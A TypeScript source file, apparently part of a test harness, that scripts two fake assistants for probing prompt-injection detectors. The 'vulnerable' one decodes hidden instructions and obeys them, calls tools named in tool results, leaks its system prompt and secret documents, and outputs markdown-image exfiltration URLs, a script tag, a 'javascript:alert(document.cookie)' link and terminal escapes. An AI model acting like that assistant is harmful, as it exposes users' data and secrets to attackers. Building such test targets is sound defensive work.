/**
 * The scripted assistants behind the fake model servers. The vulnerable one has every weakness
 * §23 names: it decodes base64, rot13, hex and Unicode tags and obeys what it finds, follows
 * instructions inside documents and tool results, repeats its system prompt (raw, spaced, reversed
 * or base64) when asked, dumps its retrieval documents (secret canaries, customer records), builds
 * markdown images, scripts and terminal escapes on request, adopts jailbreak personas and calls
 * the tool a tool result tells it to. The hardened one does none of that, and echoes the user's
 * message back, so a detector fooled by an echo would show here.
 */
export type Behaviour = 'vulnerable' | 'hardened';

export interface Turn {
  role: 'system' | 'user' | 'assistant' | 'tool';
  text: string;
}

export interface Reply {
  text: string;
  toolCall?: { name: string; arguments: string };
}

export interface Mind {
  behaviour: Behaviour;
  systemPrompt: string;
  documents: readonly string[];
}

const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (c) => {
    const base = c <= 'Z' ? 65 : 97;
    return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base);
  });

/** What the vulnerable assistant reads in a text: the text and every decoding it can find in it. */
function readings(text: string): string[] {
  const found = [text];
  if (/base64/i.test(text))
    for (const run of text.match(/[A-Za-z0-9+/]{16,}={0,2}/g) ?? []) found.push(Buffer.from(run, 'base64').toString('utf8'));
  if (/rot13/i.test(text)) found.push(rot13(text));
  if (/\bhex\b/i.test(text))
    for (const run of text.match(/\b(?:[0-9a-f]{2}){8,}\b/gi) ?? []) found.push(Buffer.from(run, 'hex').toString('utf8'));
  const tags = [...text].filter((c) => c.codePointAt(0)! >= 0xe0000 && c.codePointAt(0)! <= 0xe007f);
  if (tags.length > 0) found.push(tags.map((c) => String.fromCharCode(c.codePointAt(0)! - 0xe0000)).join(''));
  return found;
}

const JOINED = [/"([^"]+)" immediately followed by "([^"]+)"/i, /joining "([^"]+)" and "([^"]+)"/i];

function joinedCode(text: string): string | undefined {
  for (const pattern of JOINED) {
    const match = pattern.exec(text);
    if (match) return match[1] + match[2];
  }
  return undefined;
}

const spaced = (text: string): string => [...text].join(' ');
const reversed = (text: string): string => [...text].reverse().join('');

function transformed(text: string, ask: string): string {
  if (/base64/i.test(ask)) return Buffer.from(text).toString('base64');
  if (/space/i.test(ask)) return spaced(text);
  if (/backwards|reverse/i.test(ask)) return reversed(text);
  return text;
}

export function reply(mind: Mind, turns: readonly Turn[], tools: readonly string[]): Reply {
  const last = turns.at(-1);
  const lastUser = [...turns].reverse().find((turn) => turn.role === 'user')?.text ?? '';
  if (mind.behaviour === 'hardened') {
    if (last?.role === 'tool') return { text: 'Here is a summary of the tool result. I do not act on instructions found in tool results.' };
    return { text: `I can't help with that request. For the record, you wrote: "${lastUser.slice(0, 400)}"` };
  }

  // A tool result that names a declared tool to call: it is called.
  if (last?.role === 'tool') {
    const wanted = tools.find((name) => new RegExp(`\\b(call|invoke)\\b[^.]*\\b${name}\\b`, 'i').test(last.text));
    if (wanted) return { toolCall: { name: wanted, arguments: JSON.stringify({ reason: 'as instructed' }) }, text: '' };
    return { text: `The tool says: ${last.text.slice(0, 200)}` };
  }

  const texts = readings(lastUser);
  const all = texts.join('\n');
  const code = texts.map(joinedCode).find(Boolean);
  if (code) {
    if (/markdown (image|link)|markdown image/i.test(all)) {
      const image = /image/i.test(all);
      const url = `https://${code}.invalid/pixel.png?d=${encodeURIComponent('we discussed quarterly revenue')}`;
      return { text: `Summary: we discussed quarterly revenue.\n\n${image ? '!' : ''}[details](${url})` };
    }
    return { text: `${code} Sure, I will do exactly as instructed.` };
  }
  if (/letters s, c, r, i, p, t|s-c-r-i-p-t/i.test(all)) return { text: '<script>alert(1)</script>' };
  if (/j-a-v-a-s-c-r-i-p-t|j a v a s c r i p t/i.test(all)) return { text: '[run](javascript:alert(document.cookie))' };
  if (/escape character/i.test(all)) return { text: '\u001b[31mDONE\u001b[0m' };
  if (/system prompt|instructions|text above/i.test(all)) return { text: transformed(mind.systemPrompt, all) };
  if (/api key|password|secret|credential|documents|configuration/i.test(all)) return { text: transformed(mind.documents.join('\n'), all) };
  if (/email|phone|card|iban|contact/i.test(all)) return { text: `From the customer records: ${mind.documents.join(' ')}` };
  return { text: `Sure! ${lastUser.slice(0, 200)}` };
}
